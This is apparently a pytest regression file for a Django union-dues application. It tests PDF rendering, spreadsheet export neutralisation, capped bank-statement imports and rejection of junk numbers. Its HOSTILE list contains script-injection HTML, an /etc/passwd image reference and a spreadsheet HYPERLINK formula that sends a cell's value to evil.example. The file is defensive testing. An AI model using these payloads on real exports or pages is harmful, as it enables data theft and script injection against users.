"""Issue 15 for the union funds: hostile text in exports and PDFs, bounded statement
imports, junk numbers. Each test failed before its fix."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django_tenants.utils import schema_context
from openpyxl import Workbook, load_workbook

from federation.dues import documents, rule_table, selectors, services, statements
from federation.dues.models import (
    DuesNotice,
    Payment,
    PayrollDeclaration,
    Reminder,
    StatementImport,
)
from federation.rules.models import RuleValue
from tenants.models import Union

pytestmark = pytest.mark.django_db
D = Decimal
TZ = dt.timezone(dt.timedelta(hours=8))
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    '<img src="/etc/passwd"/>',
    "<font size=90>big</font> & <a href='http://evil.example'>x</a>",
    '=HYPERLINK("http://evil.example/x?d="&B3,"查看附件")',
]


def fed_client(username):
    client = Client(HTTP_HOST=settings.BASE_DOMAIN)
    client.force_login(get_user_model().objects.get(username=username))
    return client


def pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def _flat(text: str) -> str:
    return "".join(text.split())


# item 4: every user value in the dues PDFs is text, never markup


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_dues_pdf_prints_hostile_text_literally(issued, frozen, union_a, hostile):
    Union.objects.filter(pk=union_a.pk).update(name=hostile)
    for key in (rule_table.ACCOUNT_NAME, rule_table.ACCOUNT_BANK, rule_table.ISSUER):
        RuleValue.objects.filter(key=key).update(value=hostile)
    services.payment_record(
        notice=issued, amount=D("100.00"), paid_on=dt.date(2026, 11, 4), reference="B-1", actor="t"
    )
    decl = PayrollDeclaration.objects.get(pk=issued.declaration_id)
    services.declaration_correct(
        declaration=decl, payroll_total=D("110000.00"), headcount=50, reason=hostile, actor="t"
    )
    frozen.move_to(dt.datetime(2026, 11, 26, 9, tzinfo=TZ))
    services.notices_mark_overdue()
    services.reminder_send(union=union_a)
    Reminder.objects.update(email=hostile)
    client = fed_client("federation_viewer")
    arrears = client.get("/dues/unions/union-a/arrears.pdf")
    notice = client.get(f"/dues/notices/{issued.pk}/notice.pdf")
    assert (arrears.status_code, notice.status_code) == (200, 200)
    for response in (arrears, notice):
        assert _flat(hostile) in _flat(pdf_text(response.content))


def test_an_organizing_targets_notice_pdf_prints_its_hostile_name(frozen):
    from tests.factories import credit_code

    target = services.target_create(name=HOSTILE[1], credit_code=credit_code(), actor="t")
    services.declaration_submit(
        target=target, period="2026-10", payroll_total=D("1000.00"), headcount=1, actor="t"
    )
    services.dues_cycle_run(period="2026-10")
    notice = DuesNotice.objects.get(target=target)
    assert _flat(HOSTILE[1]) in _flat(pdf_text(documents.notice_pdf(notice=notice)))


# item 3: text cells of the dues export are neutralised; numbers stay numbers


def test_the_board_export_neutralises_formulas_and_keeps_numbers(issued, union_a):
    Union.objects.filter(pk=union_a.pk).update(name=HOSTILE[3])
    response = fed_client("federation_viewer").get("/dues/export.xlsx?period=2026-10")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    row = [c for c in ws[2]]
    assert row[0].value == "'" + HOSTILE[3]
    assert row[0].data_type == "s"
    assert (row[4].data_type, row[6].data_type) == ("n", "n")
    assert D(str(row[6].value)) == D("2000.00")
    assert all(
        not (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
        for r in ws.iter_rows()
        for c in r
    )


# item 5: a bank statement is bounded before it is read


def _csv(text: str, name: str = "s.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def test_a_statement_over_the_size_cap_is_a_400_on_file_and_is_not_read(client_for, monkeypatch):
    monkeypatch.setattr(statements, "MAX_BYTES", 1024)
    body = "日期,金额,流水号\n" + "2026-11-03,1.00,R-1\n" * 200
    response = client_for("federation_clerk").post(
        "/api/v1/dues/statements/", {"file": _csv(body)}, format="multipart"
    )
    assert response.status_code == 400
    assert list(response.json()) == ["file"]
    assert StatementImport.objects.count() == 0


def test_a_statement_over_the_row_cap_is_a_400_on_file(client_for, monkeypatch):
    monkeypatch.setattr(statements, "MAX_ROWS", 10)
    body = "日期,金额,流水号\n" + "".join(f"2026-11-03,1.00,R-{i}\n" for i in range(20))
    response = client_for("federation_clerk").post(
        "/api/v1/dues/statements/", {"file": _csv(body)}, format="multipart"
    )
    assert response.status_code == 400
    assert list(response.json()) == ["file"]
    assert StatementImport.objects.count() == 0


def test_an_xlsx_statement_that_unpacks_too_large_is_a_400(client_for, monkeypatch):
    monkeypatch.setattr(statements, "MAX_XLSX_UNPACKED", 2000)
    wb = Workbook()
    wb.active.append(["交易日期", "贷方金额", "交易流水号"])
    for i in range(300):
        wb.active.append(["2026-11-03", 1, f"R-{i}"])
    buf = io.BytesIO()
    wb.save(buf)
    response = client_for("federation_clerk").post(
        "/api/v1/dues/statements/",
        {"file": SimpleUploadedFile("s.xlsx", buf.getvalue())},
        format="multipart",
    )
    assert response.status_code == 400
    assert list(response.json()) == ["file"]


def test_a_statement_with_a_nul_byte_and_junk_amounts_is_read_line_by_line(issued):
    text = f"日期,金额,流水号,摘要\n2026-11-03,1e30,R-1,x\x00\n2026-11-03,NaN,R-2,\n2026-11-03,100.00,R-3,DN-{issued.pk}\n"
    statement = statements.statement_import(upload=_csv(text), actor="t")
    assert [ln.status for ln in statement.lines.order_by("row")] == [
        "invalid",
        "invalid",
        "matched",
    ]


# item 6: junk numbers are a 400 naming the field, never a 500


@pytest.mark.parametrize("junk", ["1e30", "NaN", "-0", "Infinity", "99999999999999999999", 1e30])
def test_a_junk_payment_amount_is_a_400_on_amount(client_for, issued, junk):
    response = client_for("federation_clerk").post(
        f"/api/v1/dues/notices/{issued.pk}/payments/",
        {"amount": junk, "paid_on": "2026-11-04", "reference": "B-9"},
        format="json",
    )
    assert response.status_code == 400
    assert list(response.json()) == ["amount"]
    assert Payment.objects.count() == 0


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"payroll_total": "1e30"}, "payroll_total"),
        ({"payroll_total": "NaN"}, "payroll_total"),
        ({"payroll_total": "-0"}, "payroll_total"),
        ({"payroll_total": "999999999999999999999999.00"}, "payroll_total"),
        ({"headcount": "1e30"}, "headcount"),
        ({"headcount": 10**30}, "headcount"),
        ({"period": "2026-10\x00"}, "period"),
    ],
)
def test_a_junk_declaration_is_a_400_on_its_field(client_for, frozen, union_a, body, field):
    data = {"period": "2026-10", "payroll_total": "1000.00", "headcount": 3, **body}
    response = client_for("a_finance", union_a).post(
        "/api/v1/dues/declarations/", data, format="json"
    )
    assert response.status_code == 400
    assert list(response.json()) == [field]
    assert PayrollDeclaration.objects.count() == 0


@pytest.mark.parametrize("junk", ["1e30", "NaN", "-0"])
def test_a_junk_transfer_amount_is_a_400_on_amount(client_for, issued, junk):
    response = client_for("federation_clerk").post(
        "/api/v1/dues/remittance/",
        {
            "period": "2026-10",
            "kind": "city_upward",
            "amount": junk,
            "transferred_on": "2026-11-05",
            "reference": "UP-1",
        },
        format="json",
    )
    assert response.status_code == 400
    assert list(response.json()) == ["amount"]


@pytest.mark.parametrize("junk", ["1e30", "NaN", "-0", "0.00001"])
def test_a_junk_share_in_the_rule_table_is_a_400(client_for, junk):
    body = {
        "rate": "0.0200",
        "upward_share": junk,
        "due_day": 15,
        "grace_days": 10,
        "reminder_every_days": 7,
    }
    response = client_for("federation_admin").put("/api/v1/dues/policy/", body, format="json")
    assert (response.status_code, list(response.json())) == (400, ["upward_share"])


def test_a_junk_payment_on_the_page_is_a_400_not_a_500(issued):
    response = fed_client("federation_clerk").post(
        f"/dues/notices/{issued.pk}/",
        {"action": "payment", "amount": "1e30", "paid_on": "2026-11-04", "reference": "B-1"},
    )
    assert response.status_code == 400
    assert DuesNotice.objects.get(pk=issued.pk).amount_paid == 0


def test_a_junk_declaration_on_the_union_page_is_a_400(frozen, union_a):
    client = Client(HTTP_HOST=f"{union_a.slug}.{settings.BASE_DOMAIN}")
    with schema_context(union_a.schema_name):
        client.force_login(get_user_model().objects.get(username="a_finance"))
    response = client.post(
        "/dues/", {"period": "2026-10", "payroll_total": "NaN", "headcount": "1e30"}
    )
    connection.set_schema_to_public()
    assert response.status_code == 400
    assert PayrollDeclaration.objects.count() == 0
    assert selectors.union_balance(union=union_a) == D("0.00")


@pytest.mark.parametrize("query", ["", "?period=", "?period=%20"])
def test_the_remittance_report_without_a_period_is_a_400_naming_period(client_for, query):
    response = client_for("federation_clerk").get(f"/api/v1/dues/remittance/{query}")
    assert response.status_code == 400
    assert list(response.json()) == ["period"]
